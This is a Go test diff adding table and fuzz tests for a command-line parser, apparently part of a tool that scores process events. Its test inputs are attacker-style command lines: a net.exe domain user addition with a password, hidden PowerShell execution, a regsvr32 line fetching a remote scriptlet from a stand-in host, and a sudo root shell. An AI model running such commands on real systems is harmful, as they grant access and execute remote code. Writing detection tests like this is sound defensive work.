@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"math"
 	"math/rand/v2"
+	"strings"
 	"testing"
 	"time"
 )
@@ -160,4 +161,34 @@ func BenchmarkScore(b *testing.B) {
 		Rank(m, sessions, 2)
 	}
 	b.ReportMetric(float64(cmds*b.N)/b.Elapsed().Seconds(), "events/s")
+}
+
+func TestParseCommandLine(t *testing.T) {
+	for _, tt := range []struct {
+		line string
+		want string
+	}{
+		{`"C:\Windows\System32\net.exe" user mallory P@ss /add /domain`, "net map[add: domain:]"},
+		{`powershell.exe -NoP -W Hidden -File "C:\temp\a b.ps1"`, `powershell map[file:C:\temp\a b.ps1 nop: w:Hidden]`},
+		{`regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll`, "regsvr32 map[i:http://x/f.sct n: s: u:]"},
+		{`/usr/bin/sudo -u root /bin/bash`, "sudo map[u:root]"},
+		{``, " map[]"},
+	} {
+		c := ParseCommandLine(tt.line)
+		if got := fmt.Sprint(c.Name, " ", c.Params); got != tt.want {
+			t.Errorf("ParseCommandLine(%q) = %s, want %s", tt.line, got, tt.want)
+		}
+	}
+}
+
+func FuzzParseCommandLine(f *testing.F) {
+	for _, s := range []string{`net user x /add`, `"a b" -c "d`, `-`, `/`, "\x00\"", `a /i:x -y:z`} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		c := ParseCommandLine(s)
+		if strings.TrimSpace(s) == "" && c.Name != "" {
+			t.Fatalf("name %q from blank input", c.Name)
+		}
+	})
 }
